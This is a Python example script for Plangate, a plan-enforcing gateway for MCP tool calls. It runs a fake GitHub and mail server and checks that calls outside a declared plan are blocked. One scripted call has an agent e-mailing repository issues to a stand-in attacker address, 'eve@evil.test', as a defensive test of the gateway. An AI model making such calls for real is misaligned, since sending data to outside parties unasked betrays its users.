"""An MCP server guarded by Plangate in one line, and a client's round trip through it.

The server (``python examples/guarded_mcp_server.py serve``) is a plain MCP server with
fake GitHub and mail tools. The client starts it behind the gateway, exactly as an MCP
client's configuration would:

    plangate-mcp --url $PLANGATE_URL -- python examples/guarded_mcp_server.py serve

then lists the tools, calls one before any plan (blocked: ``no_plan``), declares a plan,
makes an allowed call (the server's answer, unchanged) and one outside the plan (blocked:
``not_in_plan``), printing each step.

    export PLANGATE_API_KEY=pg_...          # printed by `make run`
    python examples/guarded_mcp_server.py   # or: --url, --member, --issuer

Exit status 0 when every call was decided as expected, 1 when one was not, 2 when the
round trip could not run (the control plane cannot be reached, or the plan was not
approved: one line on stderr says which), as scripted_agent.py. Needs the gateway's
extra: ``pip install "./guard[mcp]"`` (this repository's .venv has it).
"""

from __future__ import annotations

import argparse
import os
import sys
from pathlib import Path
from typing import Any

import anyio

EXAMPLES = Path(__file__).resolve().parent
REPO = "acme/public-app"
sys.path.insert(0, str(EXAMPLES))
# The examples' shared answer to a declaration that ends the run.
from scripted_agent import CannotRun, declare_failure  # noqa: E402


def serve() -> None:
    """The wrapped server: an MCP server like any other, unaware of Plangate."""
    from mcp.server.mcpserver import MCPServer

    server = MCPServer("fake-github")

    @server.tool(description="List a repository's issues.")
    def github_list_issues(repo: str, state: str = "open") -> list[dict[str, object]]:
        return [{"number": 1, "title": "Login page is slow"}, {"number": 2, "title": "Typo"}]

    @server.tool(description="Read one issue.")
    def github_get_issue(repo: str, number: int) -> dict[str, object]:
        return {"number": number, "body": "The login page takes 4 s to load on mobile."}

    @server.tool(description="Send an e-mail.")
    def send_email(to: str, subject: str) -> str:
        return f"sent to {to}"

    server.run()


async def round_trip(url: str, issuer: str, member: str) -> bool | CannotRun:
    from mcp.client import Client
    from mcp.client.stdio import StdioServerParameters

    gateway = StdioServerParameters(
        # `plangate-mcp` is this, installed as a command; `python -m` needs no PATH.
        command=sys.executable,
        args=[
            *("-m", "guard.gateway", "--url", url, "--issuer", issuer, "--"),
            *(sys.executable, str(EXAMPLES / "guarded_mcp_server.py"), "serve"),
        ],
        env={**os.environ, "PYTHONPATH": str(EXAMPLES.parent)},
    )
    plan: dict[str, Any] = {
        "version": 1,
        "goal": "Summarise the open issues of acme/public-app",
        "user": member,
        "steps": [
            {"tool": "github_list_issues", "args": {"repo": {"eq": REPO}}},
            {"tool": "github_get_issue", "args": {"repo": {"eq": REPO}}, "maxCalls": 5},
        ],
    }
    expected = []
    stopped: list[CannotRun] = []
    async with Client(gateway) as client:
        tools = await client.list_tools()
        print("tools/list:", ", ".join(tool.name for tool in tools.tools))

        async def call(name: str, arguments: dict[str, object], allowed: bool) -> None:
            result = await client.call_tool(name, arguments)
            declared = result.structured_content if name == "declare_plan" else None
            if declared and not declared["ok"]:
                stopped.extend(filter(None, [declare_failure(declared, url)]))
            texts = [block.text for block in result.content if block.type == "text"]
            shown = " ".join(" ".join(texts).split())  # on one line
            label = f"{len(plan['steps'])} steps" if name == "declare_plan" else arguments
            print(f"tools/call {name} {label}")
            print(f"  isError={result.is_error}: {shown[:150]}")
            expected.append(bool(result.is_error) is not allowed)

        await call("github_list_issues", {"repo": REPO}, allowed=False)
        await call("declare_plan", plan, allowed=True)
        if stopped:  # leaves the client's context first: the gateway stops cleanly
            return stopped[0]
        await call("github_list_issues", {"repo": REPO}, allowed=True)
        await call("github_get_issue", {"repo": REPO, "number": 1}, allowed=True)
        await call("send_email", {"to": "eve@evil.test", "subject": "issues"}, allowed=False)
    return all(expected)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("mode", nargs="?", choices=["serve"], help="run the wrapped server")
    parser.add_argument("--url", default=os.environ.get("PLANGATE_URL", "http://localhost:8000"))
    parser.add_argument("--issuer", default=os.environ.get("PLANGATE_ISSUER"))
    parser.add_argument("--member", default=os.environ.get("PLANGATE_MEMBER", "alice@acme.dev"))
    arguments = parser.parse_args()
    if arguments.mode == "serve":
        serve()
        return 0
    if not os.environ.get("PLANGATE_API_KEY"):
        parser.error("set PLANGATE_API_KEY to the agent's key (pg_...)")
    issuer = arguments.issuer or arguments.url
    ok = anyio.run(round_trip, arguments.url, issuer, arguments.member)
    if isinstance(ok, CannotRun):
        print(f"{parser.prog}: {ok}", file=sys.stderr)
        return 2
    print("every call was decided as expected" if ok else "a call was NOT decided as expected")
    return 0 if ok else 1


if __name__ == "__main__":
    raise SystemExit(main())
